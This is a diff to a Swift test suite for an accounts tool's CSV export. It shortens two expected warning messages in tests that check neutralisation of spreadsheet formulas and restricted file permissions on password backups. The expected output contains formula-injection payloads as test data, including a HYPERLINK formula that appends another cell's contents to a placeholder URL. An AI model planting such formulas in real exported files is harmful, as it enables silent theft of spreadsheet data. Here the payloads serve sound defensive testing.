@@ -142,7 +142,7 @@ import Testing
       safe.standardOutput == "account,password,backend,tags,otp\r\n\"'+44@corp\",\"'-1+2\",corp,,\r\n"
         + "alice@corp,\"'=HYPERLINK(\"\"http://x/\"\"&B3)\",corp,,\r\nbob@corp,plain,corp,,\r\ncarol@corp,\"'@SUM(1)\",corp,,\r\n")
     #expect(!safe.standardError.contains("warning: a spreadsheet"), "\(safe)")
-    #expect(safe.standardError.contains("accounts: written with a ' in front for a spreadsheet (import would keep it): line 2"))
+    #expect(safe.standardError.contains("written with a ' in front for a spreadsheet (import would keep it): line 2"))
 
     let target = try Fixture().addingBackend("corp")
     defer { target.close() }
@@ -163,7 +163,7 @@ import Testing
     let path = sandbox.keyring.root + "/backup.csv"
     let fresh = try sandbox.shell("umask 022; \"$ACCOUNTS\" export --with-passwords > '\(path)'")
     #expect(fresh.status == 0, "\(fresh)")
-    #expect(fresh.standardError.contains("accounts: stdout is a file others could read (mode 0644): made it 0600 before writing the passwords\n"), "\(fresh)")
+    #expect(fresh.standardError.contains("stdout is a file others could read (mode 0644): made it 0600 before writing the passwords\n"), "\(fresh)")
     let mode = try #require(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int)
     #expect(mode == 0o600)
     #expect(try String(contentsOfFile: path, encoding: .utf8).contains("alice@corp,alice-pw,"))
